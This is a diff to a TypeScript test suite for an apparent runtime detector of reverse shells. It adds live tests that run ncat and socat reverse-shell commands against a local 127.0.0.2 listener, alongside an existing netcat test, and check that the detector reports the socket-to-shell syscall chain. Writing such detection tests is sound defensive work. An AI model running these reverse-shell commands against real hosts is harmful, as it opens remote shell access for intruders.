@@ -203,8 +203,8 @@ describe('live: reverse shells (shell.stdio-over-socket)', () => {
   });
   afterAll(() => new Promise<void>((r) => listener.close(() => r())));
 
-  const shellFinding = (findings: Finding[]): Finding => {
-    const shells = findings.filter((f) => f.rule === 'shell.stdio-over-socket');
+  const shellFinding = (findings: Finding[], rule = 'shell.stdio-over-socket'): Finding => {
+    const shells = findings.filter((f) => f.rule === rule);
     expect(shells).toHaveLength(1);
     expect(() => Finding.parse(shells[0])).not.toThrow();
     expect(shells[0]).toMatchObject({ category: 'reverse-shell', severity: 'critical', sink: { family: 'inet', address: '127.0.0.2', port } });
@@ -222,6 +222,22 @@ describe('live: reverse shells (shell.stdio-over-socket)', () => {
     const r = await h.run('revshell-nc', `nc.traditional -e /bin/sh 127.0.0.2 ${port}`);
     const f = shellFinding(r.findings);
     expect(f.chain.at(-1)).toMatchObject({ syscall: 'execve', object: '/bin/sh' });
+  });
+
+  it('ncat -e /bin/sh 127.0.0.2 PORT (nmap ncat)', async () => {
+    const r = await h.run('revshell-ncat', `ncat -e /bin/sh 127.0.0.2 ${port}`);
+    const f = shellFinding(r.findings, 'shell.relayed-from-socket');
+    // ncat reads the socket, writes into a pipe, the shell reads that pipe as fd 0
+    expect(f.chain.map((x) => x.comm)).toEqual(['ncat', 'ncat', 'sh']);
+    expect(f.chain[0]!.object).toBe(`socket 127.0.0.2:${port}`);
+    expect(f.chain.at(-1)).toMatchObject({ fd: 0 });
+  });
+
+  it('socat TCP:127.0.0.2:PORT EXEC:/bin/sh (the shell talks to a socketpair socat relays)', async () => {
+    const r = await h.run('revshell-socat', `socat TCP:127.0.0.2:${port} EXEC:/bin/sh`);
+    const f = shellFinding(r.findings, 'shell.relayed-from-socket');
+    expect(f.chain[0]).toMatchObject({ comm: 'socat', object: `socket 127.0.0.2:${port}` });
+    expect(f.chain.at(-1)).toMatchObject({ fd: 0 });
   });
 
   it('python: connect, dup2 the socket onto 0/1/2, exec /bin/sh', async () => {
